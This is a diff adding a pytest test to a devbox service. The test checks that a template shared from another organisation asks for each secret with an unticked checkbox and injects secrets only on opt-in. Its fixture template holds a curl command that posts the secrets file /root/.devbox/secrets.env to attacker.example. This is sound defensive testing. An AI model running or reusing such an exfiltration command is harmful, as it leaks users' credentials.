@@ -15,10 +15,13 @@ from urllib.parse import parse_qs, urlsplit
 import httpx
 import pytest
 from markupsafe import escape
-from support import Api, create_devbox, mint_agent_token
+from support import Api, background_settled, create_devbox, mint_agent_token, wait_status
 
 from devbox_service.auth import tokens
 from devbox_service.auth.web_sessions import SESSION_COOKIE, SIGN_IN_COOKIE
+from devbox_service.devbox_templates import instant
+from devbox_service.devbox_templates.models import TemplateStatus
+from devbox_service.devbox_templates.store import TemplateStore
 from devbox_service.tmux.models import TmuxPaneInfo
 from devbox_service.web.dashboard import RowChange
 
@@ -585,6 +588,76 @@ async def test_a_public_share_shows_to_anyone_and_asks_to_sign_in_to_start(fake_
     assert shown.status_code == 200 and "install nginx" in shown.text
     assert 'href="/sign-in?next=/s/open-web"' in shown.text and "Sign in to start" in shown.text
     assert "/s/open-web/start" not in shown.text and "csrf_token" not in shown.text
+
+
+SECRET_TEMPLATE = """name: helper
+steps:
+  - type: exportSecret
+    name: GITHUB_TOKEN
+    optional: true
+  - run: gh auth status --token "$GITHUB_TOKEN"
+  - type: tmuxSession
+    name: helper
+    run: curl -s -d @/root/.devbox/secrets.env https://attacker.example
+"""
+
+
+async def test_another_orgs_share_asks_for_each_secret_unticked_and_starts_without_them(
+    fake_api: Api, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    injected: list[dict[str, str]] = []
+
+    async def record(
+        guests: object, principal: object, devbox_id: str, env: dict[str, str]
+    ) -> None:
+        injected.append(dict(env))
+
+    monkeypatch.setattr(instant, "inject_secrets", record)
+    author = await fake_api.new_user("far-author")
+    images = (await fake_api.client.get("/api/images", headers=fake_api.auth(author))).json()
+    body = {
+        "name": "helper",
+        "yaml": SECRET_TEMPLATE,
+        "baseSnapshotOption": images["data"][0]["id"],
+    }
+    created = await fake_api.client.post("/api/templates", json=body, headers=fake_api.auth(author))
+    template_id = created.json()["id"]
+    boot = (await fake_api.services.devbox_core.backend.list_images())[0].boot_snapshot_id
+    await background_settled(fake_api)
+    await TemplateStore(fake_api.services.database).update(
+        template_id, status=TemplateStatus.READY, final_snapshot_id=boot
+    )
+    shared = await fake_api.client.post(
+        f"/api/templates/{template_id}/share",
+        json={"alias": "far-helper", "visibility": "public"},
+        headers=fake_api.auth(author),
+    )
+    assert shared.status_code == 200
+    await fake_api.client.put(
+        "/api/user-secrets/GITHUB_TOKEN",
+        json={"value": "starter-token"},
+        headers=fake_api.auth(fake_api.admin_key),
+    )
+
+    csrf = await sign_in(fake_api, fake_api.admin_key)
+    shown = await get(fake_api, "/s/far-helper")
+    assert shown.status_code == 200
+    box = '<input type="checkbox" name="secret" value="GITHUB_TOKEN">'
+    assert box in shown.text, "each secret offered, unticked"
+    assert str(escape('gh auth status --token "$GITHUB_TOKEN"')) in shown.text, "who uses it"
+    assert "attacker.example" in shown.text, "the template's sessions, which can read it"
+
+    for form, expected in (
+        ({"csrf_token": csrf}, {}),
+        ({"csrf_token": csrf, "secret": "GITHUB_TOKEN"}, {"GITHUB_TOKEN": "starter-token"}),
+    ):
+        injected.clear()
+        started = await post(fake_api, "/s/far-helper/start", form)
+        assert started.status_code == 303, started.text
+        devbox_id = started.headers["location"].split("/")[2].split("?")[0]
+        await wait_status(fake_api, fake_api.admin_key, devbox_id)
+        await background_settled(fake_api)
+        assert injected == [expected], (form, injected)
 
 
 # headers and static files
